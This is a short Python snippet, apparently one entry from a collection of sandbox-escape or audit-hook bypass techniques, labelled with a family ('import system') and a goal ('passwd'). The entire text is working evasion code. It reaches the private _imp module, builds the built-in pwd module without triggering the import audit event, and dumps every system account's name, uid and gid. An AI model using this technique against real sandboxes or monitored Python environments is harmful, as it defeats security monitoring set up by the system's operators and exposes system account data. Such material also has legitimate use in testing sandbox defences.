# family: import system (_imp.create_builtin: a module without the import event)   goal: passwd
import random
class Spec:
    name = "pwd"
imp = random._os.sys.modules["_imp"]
pwd = imp.create_builtin(Spec())
imp.exec_builtin(pwd)
for e in pwd.getpwall():
    print(":".join([e.pw_name, "x", str(e.pw_uid), str(e.pw_gid)]) + ":")
